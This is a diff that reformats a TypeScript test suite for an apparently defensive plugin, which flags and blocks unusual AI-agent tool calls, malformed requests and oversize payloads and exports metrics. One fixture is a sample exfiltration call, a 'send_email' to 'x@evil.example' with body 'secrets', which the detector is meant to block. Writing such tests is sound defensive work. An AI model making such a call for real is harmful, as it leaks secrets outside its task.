@@ -13,8 +13,15 @@ let client: Client;
 
 beforeAll(async () => {
   const detector = createDetector({
-    action: "block", minCalls: 5, learningWindowSeconds: 0, tenantMinCalls: 5, tenantLearningWindowSeconds: 0,
-    blockThreshold: 0.55, warnThreshold: 0.3, offHoursStart: 0, offHoursEnd: 0,
+    action: "block",
+    minCalls: 5,
+    learningWindowSeconds: 0,
+    tenantMinCalls: 5,
+    tenantLearningWindowSeconds: 0,
+    blockThreshold: 0.55,
+    warnThreshold: 0.3,
+    offHoursStart: 0,
+    offHoursEnd: 0,
   });
   const plugin = new ContextForgePlugin({ detector, clock: () => now, maxPayloadBytes: 32 * 1024 });
   server = await servePluginHttp(plugin, { host: "127.0.0.1", port: 0, maxBodyBytes: 64 * 1024 });
@@ -29,7 +36,17 @@ afterAll(async () => {
 async function train(user: string, tenant: string, n: number) {
   for (let i = 0; i < n; i++) {
     now += 120_000;
-    const r = await callJson(client, "invoke_hook", preInvoke({ tool: i % 2 ? "read_file" : "list_files", args: { path: `/docs/${i % 3}` }, user, tenant, requestId: `t${i}` }));
+    const r = await callJson(
+      client,
+      "invoke_hook",
+      preInvoke({
+        tool: i % 2 ? "read_file" : "list_files",
+        args: { path: `/docs/${i % 3}` },
+        user,
+        tenant,
+        requestId: `t${i}`,
+      }),
+    );
     expect(r.result.continue_processing).toBe(true);
   }
 }
@@ -60,7 +77,16 @@ describe("handshake", () => {
 describe("tool_pre_invoke and tool_post_invoke", () => {
   it("allows, returns namespaced metadata without ids, and echoes the whole context", async () => {
     now += 60_000;
-    const req = preInvoke({ tool: "db_query", args: { query: "SELECT 1" }, user: "carol@example.com", tenant: "team9", requestId: "req-42", headers: { "x-trace": "1" }, extraGlobal: { content_type: "application/json", user_context: { user_id: "u9", email: "carol@example.com" } }, state: { other: 1 } });
+    const req = preInvoke({
+      tool: "db_query",
+      args: { query: "SELECT 1" },
+      user: "carol@example.com",
+      tenant: "team9",
+      requestId: "req-42",
+      headers: { "x-trace": "1" },
+      extraGlobal: { content_type: "application/json", user_context: { user_id: "u9", email: "carol@example.com" } },
+      state: { other: 1 },
+    });
     (req.context as any).metadata = { kept: "yes" };
     const r = await callJson(client, "invoke_hook", req);
     expect(r.plugin_name).toBe(PLUGIN);
@@ -98,14 +124,27 @@ describe("tool_pre_invoke and tool_post_invoke", () => {
   });
 
   it("takes the user from a user object or user_context", async () => {
-    const r = await callJson(client, "invoke_hook", preInvoke({ tool: "ping", user: { email: "dave@example.com", full_name: "Dave" }, tenant: "t1" }));
+    const r = await callJson(
+      client,
+      "invoke_hook",
+      preInvoke({ tool: "ping", user: { email: "dave@example.com", full_name: "Dave" }, tenant: "t1" }),
+    );
     expect(r.result.continue_processing).toBe(true);
   });
 
   it("blocks a never-seen tool for a trained principal with 403, a violation and an MCP error code", async () => {
     await train("alice@example.com", "acme", 30);
     now += 120_000;
-    const r = await callJson(client, "invoke_hook", preInvoke({ tool: "send_email", args: { to: "x@evil.example", body: "secrets" }, user: "alice@example.com", tenant: "acme" }));
+    const r = await callJson(
+      client,
+      "invoke_hook",
+      preInvoke({
+        tool: "send_email",
+        args: { to: "x@evil.example", body: "secrets" },
+        user: "alice@example.com",
+        tenant: "acme",
+      }),
+    );
     expect(r.result.continue_processing).toBe(false);
     const v = r.result.violation;
     expect(v.code).toBe("BLOCKED");
@@ -121,7 +160,17 @@ describe("tool_pre_invoke and tool_post_invoke", () => {
     let last: any;
     for (let i = 0; i < 30; i++) {
       now += 50;
-      last = await callJson(client, "invoke_hook", preInvoke({ tool: "read_file", args: { path: "/docs/1" }, user: "bob@example.com", tenant: "acme", requestId: `b${i}` }));
+      last = await callJson(
+        client,
+        "invoke_hook",
+        preInvoke({
+          tool: "read_file",
+          args: { path: "/docs/1" },
+          user: "bob@example.com",
+          tenant: "acme",
+          requestId: `b${i}`,
+        }),
+      );
       if (!last.result.continue_processing) break;
     }
     expect(last.result.continue_processing).toBe(false);
@@ -143,13 +192,23 @@ describe("tool_pre_invoke and tool_post_invoke", () => {
 
 describe("malformed requests get an error envelope and the server keeps serving", () => {
   const cases: Array<[string, Record<string, unknown>, string, RegExp]> = [
-    ["unknown hook", { ...preInvoke({ tool: "x" }), hook_type: "prompt_pre_fetch" }, "UNKNOWN_HOOK", /prompt_pre_fetch/],
+    [
+      "unknown hook",
+      { ...preInvoke({ tool: "x" }), hook_type: "prompt_pre_fetch" },
+      "UNKNOWN_HOOK",
+      /prompt_pre_fetch/,
+    ],
     ["missing payload", { hook_type: "tool_pre_invoke", plugin_name: PLUGIN, context: {} }, "MISSING_FIELD", /payload/],
     ["null context", { ...preInvoke({ tool: "x" }), context: null }, "MISSING_FIELD", /context/],
     ["wrong plugin", { ...preInvoke({ tool: "x" }), plugin_name: "Other" }, "UNKNOWN_PLUGIN", /Other/],
     ["payload not an object", { ...preInvoke({ tool: "x" }), payload: "x" }, "INVALID_PAYLOAD", /payload/],
     ["context not an object", { ...preInvoke({ tool: "x" }), context: [1] }, "INVALID_CONTEXT", /context/],
-    ["global_context not an object", { ...preInvoke({ tool: "x" }), context: { global_context: "nope" } }, "INVALID_CONTEXT", /global_context/],
+    [
+      "global_context not an object",
+      { ...preInvoke({ tool: "x" }), context: { global_context: "nope" } },
+      "INVALID_CONTEXT",
+      /global_context/,
+    ],
   ];
   for (const [name, args, code, msg] of cases) {
     it(name, async () => {
@@ -165,7 +224,13 @@ describe("malformed requests get an error envelope and the server keeps serving"
 
   // the call's own input, not the envelope: a decision by failurePolicy (closed here), see refused-input.test.ts
   const refused: Array<[string, Record<string, unknown>, string, number, RegExp]> = [
-    ["args not an object", { ...preInvoke({ tool: "x" }), payload: { name: "x", args: [1, 2] } }, "INVALID_ARGS", 403, /payload\.args/],
+    [
+      "args not an object",
+      { ...preInvoke({ tool: "x" }), payload: { name: "x", args: [1, 2] } },
+      "INVALID_ARGS",
+      403,
+      /payload\.args/,
+    ],
     ["no tool name", { ...preInvoke({ tool: "x" }), payload: { args: {} } }, "INVALID_TOOL", 403, /payload\.name/],
     ["empty tool name", preInvoke({ tool: "" }), "INVALID_TOOL", 403, /empty string/],
     ["oversize", preInvoke({ tool: "x", args: { blob: "a".repeat(40_000) } }), "PAYLOAD_TOO_LARGE", 413, /limit/],
@@ -189,13 +254,25 @@ describe("malformed requests get an error envelope and the server keeps serving"
   });
 
   it("bad JSON and oversize HTTP bodies get JSON-RPC errors naming the problem", async () => {
-    const bad = await fetch(server.url, { method: "POST", headers: { "content-type": "application/json", accept: "application/json, text/event-stream" }, body: "{not json" });
+    const bad = await fetch(server.url, {
+      method: "POST",
+      headers: { "content-type": "application/json", accept: "application/json, text/event-stream" },
+      body: "{not json",
+    });
     expect(bad.status).toBe(400);
     expect((await bad.json()).error.message).toMatch(/invalid JSON/);
-    const big = await fetch(server.url, { method: "POST", headers: { "content-type": "application/json", accept: "application/json, text/event-stream" }, body: JSON.stringify({ x: "a".repeat(100_000) }) });
+    const big = await fetch(server.url, {
+      method: "POST",
+      headers: { "content-type": "application/json", accept: "application/json, text/event-stream" },
+      body: JSON.stringify({ x: "a".repeat(100_000) }),
+    });
     expect(big.status).toBe(413);
     expect((await big.json()).error.message).toMatch(/too large/);
-    const noSession = await fetch(server.url, { method: "POST", headers: { "content-type": "application/json", accept: "application/json, text/event-stream" }, body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list" }) });
+    const noSession = await fetch(server.url, {
+      method: "POST",
+      headers: { "content-type": "application/json", accept: "application/json, text/event-stream" },
+      body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list" }),
+    });
     expect(noSession.status).toBe(400);
     // still serving
     const c = await callJson(client, "get_plugin_configs", {});
@@ -214,7 +291,13 @@ describe("health and metrics", () => {
     const r = await fetch(server.url.replace("/mcp", "/metrics"));
     expect(r.headers.get("content-type")).toMatch(/text\/plain/);
     const text = await r.text();
-    const value = (line: string) => Number(text.split("\n").find((l) => l.startsWith(line + " "))!.slice(line.length + 1));
+    const value = (line: string) =>
+      Number(
+        text
+          .split("\n")
+          .find((l) => l.startsWith(`${line} `))!
+          .slice(line.length + 1),
+      );
     expect(value('toolwatch_decisions_total{action="block"}')).toBeGreaterThanOrEqual(2);
     expect(value('toolwatch_decisions_total{action="allow"}')).toBeGreaterThan(10);
     expect(text).toContain('toolwatch_decision_reasons_total{action="block",reason="UNSEEN_TOOL"}');
@@ -222,7 +305,9 @@ describe("health and metrics", () => {
     expect(value("toolwatch_tracked_entities")).toBeGreaterThanOrEqual(4);
     expect(value("toolwatch_memory_used_bytes")).toBeGreaterThan(0);
     expect(value("toolwatch_memory_budget_bytes")).toBeGreaterThan(value("toolwatch_memory_used_bytes"));
-    expect(value('toolwatch_check_duration_seconds_bucket{le="+Inf"}')).toBe(value("toolwatch_check_duration_seconds_count"));
+    expect(value('toolwatch_check_duration_seconds_bucket{le="+Inf"}')).toBe(
+      value("toolwatch_check_duration_seconds_count"),
+    );
     expect(text).toContain('toolwatch_evictions_total{kind="entity"}');
     expect(value('toolwatch_hook_errors_total{code="UNKNOWN_HOOK"}')).toBe(1);
     // every sample line is `name{labels} number`
